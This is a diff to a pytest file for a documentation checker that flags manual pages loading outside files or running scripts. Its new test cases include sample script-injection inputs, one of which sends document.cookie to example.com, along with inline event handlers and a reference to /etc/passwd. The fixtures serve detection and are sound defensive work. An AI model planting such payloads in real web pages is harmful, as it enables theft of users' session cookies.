@@ -23,7 +23,7 @@ WEB_TAIL = "a file of another host: the site loads nothing from outside (a link 
 PRINT_TAIL = "the print edition reads only the files of the built site"
 
 SITE_LINES = [
-    "11 problems in the chapters:",
+    "12 problems in the chapters:",
     f"  docs/01-outside.md:7: embeds 'file:///etc/passwd', a file:// address: {SITE_TAIL}",
     f"  docs/01-outside.md:9: embeds 'file:///etc/passwd', a file:// address: {SITE_TAIL}",
     f"  docs/01-outside.md:11: embeds '/etc/passwd', an absolute path: {SITE_TAIL}",
@@ -35,6 +35,8 @@ SITE_LINES = [
     f"  docs/01-outside.md:23: embeds '/etc/passwd', an absolute path: {SITE_TAIL}",
     f"  docs/01-outside.md:25: embeds 'http://example.com/frame.html', {WEB_TAIL}",
     f"  docs/01-outside.md:27: links to 'file:///etc/passwd', a file:// address: {SITE_TAIL}",
+    "  docs/01-outside.md:35: runs a script (<script...): a page of the manual runs no script of its own, since what "
+    "a script loads cannot be checked",
 ]
 
 
@@ -79,11 +81,33 @@ def test_a_chapter_naming_outside_addresses_fails_one_line_each(tmp_path, with_c
 ])
 def test_each_kind_of_address(markdown, message):
     render = boundary.markdown_renderer(ROOT / "mkdocs.yml")
-    problems = boundary.chapter_problems("docs/01-x.md", f"# X\n\n{markdown}\n", render)
+    problems = [problem for problem in boundary.chapter_problems("docs/01-x.md", f"# X\n\n{markdown}\n", render)
+                if not problem.message.startswith("runs a script")]  # a <script> is refused too (the next test)
     assert len(problems) == (message is not None)
     if message is not None:
         line = 5 if "[pic]:" in markdown else 3
         assert str(problems[0]).startswith(f"docs/01-x.md:{line}: {message}"), problems[0]
+
+
+SCRIPT = "a page of the manual runs no script of its own, since what a script loads cannot be checked"
+
+
+@pytest.mark.parametrize(("markdown", "expected"), [
+    ('<script>fetch("https://example.com/?" + document.cookie)</script>', ["3: runs a script (<script...)"]),
+    ('<SCRIPT type="module">import("https://example.com/x.js")</SCRIPT>', ["3: runs a script (<script...)"]),
+    ('<script src="figures/local.js"></script>', ["3: runs a script (<script...)"]),
+    ('<img src="figures/f.svg" onerror="fetch(\'https://example.com\')">', ["3: runs a script (onerror=...)"]),
+    ('Text\n\n<svg onload = "x()"><circle/></svg>\n\n<p onclick="y()">z</p>',
+     ["5: runs a script (onload=...)", "7: runs a script (onclick=...)"]),
+    ('<iframe srcdoc="<script>x()</script>"></iframe>', ["3: runs a script (<script...)"]),
+    ('![f](figures/f.svg){ onmouseover="x()" }', ["3: runs a script (onmouseover=...)"]),
+    ("`<script>x()</script>` and\n\n    <script>y()</script>\n\nThe word onload=, said in text.", []),  # shown
+])
+def test_a_chapter_that_runs_a_script_fails_one_line_each(markdown, expected):
+    render = boundary.markdown_renderer(ROOT / "mkdocs.yml")
+    problems = boundary.chapter_problems("docs/01-x.md", f"# X\n\n{markdown}\n", render)
+    assert [f"{problem.line}: {problem.message.split(':')[0]}" for problem in problems] == expected
+    assert all(str(problem).endswith(f": {SCRIPT}") for problem in problems)
 
 
 def test_the_project_chapters_name_nothing_outside():
